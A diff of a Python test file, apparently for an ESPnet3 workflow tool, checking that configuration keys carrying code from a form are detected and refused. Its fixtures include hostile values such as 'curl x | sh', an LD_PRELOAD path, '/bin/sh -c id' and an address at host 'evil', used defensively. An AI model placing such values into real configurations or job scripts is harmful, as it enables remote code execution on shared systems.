@@ -24,11 +24,26 @@ def test_every_jobs_defaults_name_no_code(job):
 
 def test_the_keys_that_are_code():
     assert keys(COLLECT, {"frontend": {"type": "model", "model": SYMPIFY}}) == {"frontend.model"}
-    assert keys(COLLECT, {"parallel": {"cluster_class": "sympy.sympify", "address": "tcp://evil:8786",
-                                       "scheduler_file": "/tmp/s.json"}}) == {
-        "parallel.cluster_class", "parallel.address", "parallel.scheduler_file"}
+    assert keys(COLLECT, {"parallel": {"env": "sympy.sympify", "options": {
+        "address": "tcp://evil:8786", "scheduler_file": "/tmp/s.json", "start_method": "spawn"}}}) == {
+        "parallel.env", "parallel.options.address", "parallel.options.scheduler_file"}
     assert keys(COLLECT, {"allow_pipes": True}) == {"allow_pipes"}
-    assert keys(COLLECT, {"allow_pipes": False, "parallel": {"cluster_class": ""}}) == set()
+    assert keys(COLLECT, {"allow_pipes": False, "parallel": {"env": "slurm"}}) == set()
+
+
+def test_the_old_spellings_of_moved_parallel_keys_are_code_too():
+    """``parallel.cluster_class``, ``parallel.address`` and ``parallel.scheduler_file`` are read
+    as ``parallel.env`` and ``parallel.options.*`` before the check, from a run's parameters
+    and from overrides alike."""
+    from espnet3_flows.orchestration.parameters import dotted_values
+
+    old = {"parallel.cluster_class": "sympy.sympify", "parallel.address": "tcp://evil:8786"}
+    form = dotted_values(COLLECT, {"parallel": {"scheduler_file": "/tmp/s.json"}})  # a section, as a form sends it
+    for params, overrides in ((old, []), (form, []),
+                              ({}, ["parallel.cluster_class=sympy.sympify"])):
+        data = merged_data("collect_stats", None, params, overrides)
+        found = keys(COLLECT, data)
+        assert found and found <= {"parallel.env", "parallel.options.address", "parallel.options.scheduler_file"}, found
     # options: resource settings are data, anything else (env, preload, a job script's lines) is code
     options = {"queue": "gpu", "walltime": "01:00:00", "memory": "4GB", "env": {"LD_PRELOAD": "/x.so"},
                "preload": ["/x.py"], "job_script_prologue": ["curl x | sh"], "python": "/bin/sh -c id"}
@@ -63,10 +78,10 @@ def test_the_refusal_is_one_line_naming_each_key_never_the_whole_value():
     secret = "x" * 5000
     with pytest.raises(CodeFromFormError) as err:
         refuse_untrusted_code(COLLECT, {"frontend": {"model": {**SYMPIFY, "token": secret}},
-                                        "parallel": {"cluster_class": "sympy.sympify"}}, {})
+                                        "parallel": {"env": "sympy.sympify"}}, {})
     text = str(err.value)
     assert "\n" not in text and secret not in text and len(text) < 1000
-    assert "frontend.model (_target_ 'sympy.sympify'" in text and "parallel.cluster_class" in text
+    assert "frontend.model (_target_ 'sympy.sympify'" in text and "parallel.env" in text
 
 
 def test_the_refusal_never_quotes_a_value_that_is_not_a_target():
